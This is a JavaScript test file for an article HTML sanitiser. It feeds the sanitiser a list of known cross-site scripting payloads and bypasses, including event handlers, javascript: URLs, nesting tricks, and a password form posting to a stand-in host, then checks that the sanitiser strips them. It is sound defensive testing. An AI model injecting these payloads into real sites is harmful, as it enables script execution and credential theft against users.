import { sanitised } from '../../../plugin/index';

/** From the cheat sheets of OWASP and PortSwigger and from published bypasses of sanitisers. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<p id=location name=cookie>x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<a onclick=alert(1) href="https://ok.example" target=_blank>x</a>',
];

describe('markup of an article', () => {
  test.each(attacks)('%s is made harmless', (attack) => {
    const clean = sanitised(attack);
    expect(clean).not.toMatch(
      /<(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|noscript|textarea|video|body|xmp|plaintext)\b/i,
    );
    // What stands inside quotes is text.
    expect(clean.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc|formaction|name|target)\s*=/i);
    expect(clean).not.toMatch(/(href|src)\s*=\s*["']?\s*(javascript|vbscript|data|\/\/)/i);
    expect(sanitised(clean)).toBe(clean);
  });

  test('what an article needs stays', () => {
    const article =
      '<h2 id="content-part">Über uns</h2><p class="lead">A <strong>b</strong> <em>c</em><br /><code>d</code></p><ul><li>e</li></ul><ol start="3"><li>f</li></ol>' +
      '<table><thead><tr><th scope="col">g</th></tr></thead><tbody><tr><td colspan="2">h</td></tr></tbody></table>' +
      '<figure><img src="/media/2026/11/x.png" alt="i" width="10" /><figcaption>j</figcaption></figure><blockquote cite="https://x.example/">k</blockquote><pre>l</pre>';
    expect(sanitised(article)).toBe(article);
  });

  test('links are marked as not ours, ids cannot stand for globals', () => {
    expect(sanitised('<a href="https://x.example">x</a>')).toBe('<a href="https://x.example" rel="noopener nofollow ugc">x</a>');
    expect(sanitised('<h2 id="location">x</h2>')).toBe('<h2 id="content-location">x</h2>');
  });

  test('what would take seconds to parse is refused at once', () => {
    expect(() => sanitised('<div>'.repeat(50_000))).toThrow(/nested/);
    expect(() => sanitised('x'.repeat(2_000_001))).toThrow(/2 MB/);
  });
});
